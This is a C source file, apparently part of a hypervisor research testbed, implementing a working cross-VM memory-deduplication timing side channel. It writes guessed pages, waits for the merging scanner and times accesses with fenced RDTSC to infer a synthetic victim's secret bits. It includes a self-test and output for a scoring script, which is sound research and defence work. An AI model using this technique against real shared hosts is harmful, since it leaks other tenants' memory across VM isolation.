/*
 * sidechan.c - the sharing side channel from inside an unmodified Linux
 * guest: guests/attacker.c and guests/victim.c as a Linux program, in the
 * guest's initramfs as /bin/sidechan (scripts/linux-guest.sh; run by
 * guests/linux/init's workload=attack and workload=victim).
 *
 *   sidechan victim [trials=N] [hold=S] [secret=X] [shared=X]
 *   sidechan attack [trials=N] [wait=S] [seed=X] [shared=X]
 *   sidechan selftest [open|same|none] [trials=N]
 *
 * Trial i asks: does another VM hold page content G(i)?  G(i) is
 * guests/sidechan.h's, page_key(shared, 0x5C000000 + i, 0) filled as
 * sc_fill does, so a Linux attacker asks the bare-metal victim's questions
 * too (shared defaults to GUEST_SHARED_SEED, as there).  The victim holds
 * G(i) when bit i of its secret is set (victim.c's rule, from secret=),
 * else a page only it has; it prints the secret, then sleeps `hold`
 * seconds with the pages resident (mlock) and untouched.
 *
 * The attacker mmaps anonymous memory (MADV_NOHUGEPAGE: 4 KiB pages, the
 * unit the hypervisor merges; mlock: never reclaimed or moved), writes
 * G(i) into page i, and calibrates on pages whose content no other VM
 * has (keys from seed=, by default from getrandom or the TSC): 16 pairs
 * of identical pages, which the scanner merges with each other (slow),
 * and 16 singles (fast).  It sleeps `wait` seconds (a few full scans), then times one
 * read of every page and then one write (a write undoes a merge, so the
 * reads go first), each between two RDTSCs fenced with LFENCE (and an
 * MFENCE after the access, so the write has been carried out).  A write
 * to a merged page exits on an EPT violation and is copied: thousands of
 * cycles.  The threshold is halfway between the calibration medians, and
 * it prints, in attacker.c's format (so that tests/system/sidechan_score.py
 * scores it as it does the bare-metal guests): the thresholds, the
 * verdicts as lines "attacker: shared(write) FIRST-LAST 0101..." (64 a
 * line; '1': judged shared), the same for reads, and every trial's time
 * ("attacker: times(write) FIRST t t ...", 16 a line, paced so that the
 * console keeps up), then "attacker: done".
 *
 * selftest needs no hypervisor (make tool-test): one process is victim and
 * attacker, and a user-space stand-in for the scanner does the merging:
 * `open` finds every page whose content another page has (victim or
 * attacker) and makes it read-only (mprotect), a SIGSEGV handler copies it
 * and makes it writable again (a COW break, microseconds); `same` makes
 * every attacker page inaccessible, twin or not, so any access faults
 * (dedup/same.c's same-behaviour mode); `none` merges nothing.  The
 * attacker's code is the one above, with the sleep left out; its lines and
 * the victim's are prefixed "[spy] " and "[victim] " as the hypervisor's
 * console prefixes a VM's, so the scorer reads them unchanged.
 *
 * Built static (one file in an initramfs that has only busybox): glibc's
 * libc.a is part of libc6-dev, which any Debian with gcc has, so plain
 * `gcc -static` works and stdio stays available; raw syscalls with
 * -nostdlib would save ~700 KiB of initramfs but not a dependency.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/random.h>
#include <time.h>
#include <unistd.h>

/* page_key, and fill(p, key, 0): sc_fill's content; GUEST_SHARED_SEED. */
#include "memtest_recipe.h"

#define PAGE 4096u
#define MAX_TRIALS 1024u
#define CAL 16u

/* What prefixes every line: "" in a guest, "[victim] "/"[spy] " in selftest. */
static const char *prefix = "";

static void out(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void out(const char *fmt, ...)
{
	va_list ap;
	fputs(prefix, stdout);
	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	fflush(stdout);
}

static __attribute__((noreturn)) void die(const char *what)
{
	fprintf(stderr, "sidechan: %s: %s\n", what, strerror(errno));
	exit(1);
}

static uint32_t guess_key(uint32_t shared, uint32_t i)
{
	return page_key(shared, 0x5C000000u + i, 0);
}

/* victim.c's secret bit i. */
static int holds(uint32_t secret, uint32_t i)
{
	return page_key(secret, 0x5EC0000u + i, 0) >> 7 & 1;
}

/* n pages of anonymous memory, 4 KiB pages, locked where allowed. */
static uint32_t *pages(uint32_t n)
{
	size_t len = (size_t)n * PAGE;
	void *p = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (p == MAP_FAILED)
		die("mmap");
	madvise(p, len, MADV_NOHUGEPAGE); /* best effort: without THP it is moot */
	if (mlock(p, len)) /* without it the pages stay; a host may limit locking */
		fprintf(stderr, "sidechan: mlock: %s (going on)\n", strerror(errno));
	return p;
}

static void sleep_s(double s)
{
	struct timespec ts = { (time_t)s, (long)((s - (double)(time_t)s) * 1e9) };
	while (nanosleep(&ts, &ts) && errno == EINTR)
		;
}

/* Prints bits[0..n) as lines "NAME: TAG FIRST-LAST BITS" (sc_print_bits). */
static void print_bits(const char *name, const char *tag, const uint8_t *bits, uint32_t n)
{
	for (uint32_t i = 0; i < n; i += 64) {
		char s[65];
		uint32_t j, e = i + 64 < n ? i + 64 : n;
		for (j = i; j < e; j++)
			s[j - i] = bits[j] ? '1' : '0';
		s[j - i] = 0;
		out("%s: %s %u-%u %s\n", name, tag, i, e - 1, s);
	}
}

static int cmp_u32(const void *a, const void *b)
{
	uint32_t x = *(const uint32_t *)a, y = *(const uint32_t *)b;
	return x < y ? -1 : x > y;
}

static uint32_t median(uint32_t *v, unsigned n)
{
	qsort(v, n, sizeof *v, cmp_u32);
	return v[n / 2];
}

/* One timed access to the first word of page p: LFENCE keeps RDTSC from
 * passing the access either way, MFENCE waits for the store itself. */
static uint32_t probe(volatile uint32_t *p, int write)
{
	uint32_t lo0, hi0, lo1, hi1;
	__asm__ volatile("lfence\n\trdtsc\n\tlfence" : "=a"(lo0), "=d"(hi0) :: "memory");
	if (write)
		p[0] ^= 1;
	else
		(void)p[0];
	__asm__ volatile("mfence\n\tlfence\n\trdtsc" : "=a"(lo1), "=d"(hi1) :: "memory");
	return (uint32_t)((((uint64_t)hi1 << 32) | lo1) - (((uint64_t)hi0 << 32) | lo0));
}

/* ---- the victim ---- */

/* Fills n pages at data (NULL: new ones) by the secret; returns them. */
static uint32_t *victim_fill(uint32_t *data, uint32_t n, uint32_t secret, uint32_t shared, uint8_t *bits)
{
	if (!data)
		data = pages(n);
	for (uint32_t i = 0; i < n; i++) {
		bits[i] = (uint8_t)holds(secret, i);
		fill(data + i * PAGE_WORDS, bits[i] ? guess_key(shared, i)
						    : page_key(secret, 0x0D0000u + i, 0), 0);
	}
	print_bits("victim", "holds", bits, n);
	return data;
}

/* ---- the attacker ---- */

struct attack {
	uint32_t n;     /* guesses */
	uint32_t *data; /* n guesses, then CAL pairs, then CAL singles */
};

/* Fills n + 3 CAL pages at data (NULL: new ones). */
static void attack_fill(struct attack *a, uint32_t *data, uint32_t n, uint32_t seed, uint32_t shared)
{
	uint32_t *cal;
	a->n = n;
	a->data = data ? data : pages(n + 3 * CAL);
	cal = a->data + (size_t)n * PAGE_WORDS;
	for (uint32_t i = 0; i < n; i++)
		fill(a->data + (size_t)i * PAGE_WORDS, guess_key(shared, i), 0);
	for (uint32_t i = 0; i < CAL; i++) {
		fill(cal + (2 * i) * PAGE_WORDS, page_key(seed, 0xCA10000u + i, 0), 0);
		fill(cal + (2 * i + 1) * PAGE_WORDS, page_key(seed, 0xCA10000u + i, 0), 0);
		fill(cal + (2 * CAL + i) * PAGE_WORDS, page_key(seed, 0xCA20000u + i, 0), 0);
	}
}

/* Times a read, then a write, of every page; prints as attacker.c does.
 * pace: seconds between lines of times (the console's pace). */
static void attack_probe(const struct attack *a, double pace)
{
	static uint32_t t[2][MAX_TRIALS + 3 * CAL];
	static uint8_t judged[MAX_TRIALS];
	uint32_t n = a->n, fast[CAL], slow[CAL], thr[2], i, k;
	volatile uint32_t *cal = a->data + (size_t)n * PAGE_WORDS;

	for (k = 0; k < 2; k++) {
		for (i = 0; i < n; i++)
			t[k][i] = probe(a->data + (size_t)i * PAGE_WORDS, (int)k);
		for (i = 0; i < 3 * CAL; i++)
			t[k][n + i] = probe(cal + i * PAGE_WORDS, (int)k);
	}
	for (k = 0; k < 2; k++) {
		for (i = 0; i < CAL; i++) {
			slow[i] = t[k][n + 2 * i];       /* the first of each pair */
			fast[i] = t[k][n + 2 * CAL + i]; /* its own pages */
		}
		uint32_t f = median(fast, CAL), s = median(slow, CAL);
		thr[k] = f + (s > f ? (s - f) / 2 : 0);
		out("attacker: %s probe: own pages %u ticks, merged pairs %u ticks, threshold %u\n",
		    k ? "write" : "read", f, s, thr[k]);
	}
	for (k = 0; k < 2; k++) {
		for (i = 0; i < n; i++)
			judged[i] = t[k][i] > thr[k];
		print_bits("attacker", k ? "shared(write)" : "shared(read)", judged, n);
	}
	for (k = 0; k < 2; k++)
		for (i = 0; i < n; i += 16) {
			char line[16 * 8 + 1];
			int len = 0;
			for (uint32_t j = i; j < i + 16 && j < n; j++)
				len += snprintf(line + len, sizeof line - (size_t)len, " %u",
						t[k][j] < 999999 ? t[k][j] : 999999);
			out("attacker: times(%s) %u%s\n", k ? "write" : "read", i, line);
			if (pace > 0)
				sleep_s(pace);
		}
	out("attacker: done\n");
}

/* ---- selftest: a scanner in user space ---- */

static uint8_t *region;   /* every page the stand-in scanner merged */
static size_t region_len;

/* A fault on a merged page: copy it (the COW break's work) and make it
 * ours again. */
static void on_fault(int sig, siginfo_t *si, void *ctx)
{
	static uint8_t copy[PAGE];
	uint8_t *p = (uint8_t *)((uintptr_t)si->si_addr & ~(uintptr_t)(PAGE - 1));
	(void)ctx;
	if (p < region || p >= region + region_len) {
		signal(sig, SIG_DFL);
		return; /* a real fault: taken again, by default */
	}
	mprotect(p, PAGE, PROT_READ);
	memcpy(copy, p, PAGE);
	mprotect(p, PAGE, PROT_READ | PROT_WRITE);
	memcpy(p, copy, PAGE);
}

/* The stand-in for the hypervisor's scanner over all n pages at base:
 * every page is visited (made read-only, so that each has its translation
 * flushed alike); `open` leaves read-only the ones whose content another
 * page has, `same` makes the attacker's (from `first`) inaccessible. */
static void scan(uint8_t *base, uint32_t n, uint32_t first, const char *mode)
{
	mprotect(base, (size_t)n * PAGE, PROT_READ);
	for (uint32_t i = 0; i < n; i++) {
		uint8_t *p = base + (size_t)i * PAGE;
		int twin = 0, prot = PROT_READ | PROT_WRITE;
		for (uint32_t j = 0; j < n && !twin && !strcmp(mode, "open"); j++)
			twin = j != i && !memcmp(p, base + (size_t)j * PAGE, PAGE);
		if (twin)
			prot = PROT_READ;
		else if (!strcmp(mode, "same") && i >= first)
			prot = PROT_NONE;
		mprotect(p, PAGE, prot);
	}
}

static int selftest(const char *mode, uint32_t n)
{
	static uint8_t bits[MAX_TRIALS];
	struct sigaction sa;
	struct attack a;
	uint32_t nv = n, na = n + 3 * CAL, *victim;

	if (strcmp(mode, "open") && strcmp(mode, "same") && strcmp(mode, "none")) {
		fprintf(stderr, "sidechan: selftest open|same|none, not %s\n", mode);
		return 2;
	}
	/* One mapping for both, the victim's pages first: the scanner and
	 * the fault handler see one range. */
	region_len = (size_t)(nv + na) * PAGE;
	region = (uint8_t *)pages(nv + na);
	prefix = "[victim] ";
	victim = victim_fill((uint32_t *)region, nv, 0x51CE7u, GUEST_SHARED_SEED, bits);
	prefix = "[spy] ";
	attack_fill(&a, victim + (size_t)nv * PAGE_WORDS, n, 0x5B1u, GUEST_SHARED_SEED);
	out("attacker: %u guesses written; selftest: a scanner in user space (%s)\n", n, mode);
	memset(&sa, 0, sizeof sa);
	sa.sa_sigaction = on_fault;
	sa.sa_flags = SA_SIGINFO;
	if (sigaction(SIGSEGV, &sa, NULL))
		die("sigaction");
	scan(region, nv + na, nv, mode);
	attack_probe(&a, 0);
	return 0;
}

/* ---- arguments: key=value words, as on the kernel's command line ---- */

static int arg_u32(const char *arg, const char *key, uint32_t *v)
{
	size_t k = strlen(key);
	char *end;
	if (strncmp(arg, key, k) || arg[k] != '=')
		return 0;
	errno = 0;
	unsigned long x = strtoul(arg + k + 1, &end, 0);
	if (errno || *end || end == arg + k + 1 || x > 0xFFFFFFFFul) {
		fprintf(stderr, "sidechan: bad %s\n", arg);
		exit(2);
	}
	*v = (uint32_t)x;
	return 1;
}

static __attribute__((noreturn)) void usage(void)
{
	fprintf(stderr, "usage: sidechan victim [trials=N] [hold=S] [secret=X] [shared=X]\n"
			"       sidechan attack [trials=N] [wait=S] [seed=X] [shared=X]\n"
			"       sidechan selftest [open|same|none] [trials=N]\n");
	exit(2);
}

int main(int argc, char **argv)
{
	static uint8_t bits[MAX_TRIALS];
	uint32_t trials = 512, wait = 30, hold = 300, secret = 0x51CE7u, shared = GUEST_SHARED_SEED;
	uint32_t seed;
	const char *mode = "open";
	struct attack a;
	int i;

	/* Early in a guest's boot the kernel's pool may not be ready (and
	 * waiting for it under Bochs takes long): the seed need not be secret,
	 * only not another VM's, so the TSC will do then. */
	if (getrandom(&seed, sizeof seed, GRND_NONBLOCK) != sizeof seed) {
		uint32_t lo, hi;
		__asm__ volatile("rdtsc" : "=a"(lo), "=d"(hi));
		seed = mix32(lo ^ mix32(hi ^ (uint32_t)getpid()));
	}
	if (argc < 2)
		usage();
	for (i = 2; i < argc; i++)
		if (!arg_u32(argv[i], "trials", &trials) && !arg_u32(argv[i], "wait", &wait) &&
		    !arg_u32(argv[i], "hold", &hold) && !arg_u32(argv[i], "secret", &secret) &&
		    !arg_u32(argv[i], "shared", &shared) && !arg_u32(argv[i], "seed", &seed)) {
			if (!strcmp(argv[1], "selftest") && i == 2 && !strchr(argv[i], '='))
				mode = argv[i];
			else
				usage();
		}
	if (trials == 0 || trials > MAX_TRIALS) {
		fprintf(stderr, "sidechan: trials=%u: 1 to %u\n", trials, MAX_TRIALS);
		return 2;
	}
	if (!strcmp(argv[1], "selftest"))
		return selftest(mode, trials);
	if (!strcmp(argv[1], "victim")) {
		victim_fill(NULL, trials, secret, shared, bits);
		out("victim: ready\n");
		sleep_s(hold);
		out("victim: done\n");
		return 0;
	}
	if (!strcmp(argv[1], "attack")) {
		attack_fill(&a, NULL, trials, seed, shared);
		out("attacker: %u guesses written; waiting %u s for the scanner\n", trials, wait);
		sleep_s(wait);
		attack_probe(&a, 0.05);
		return 0;
	}
	usage();
}
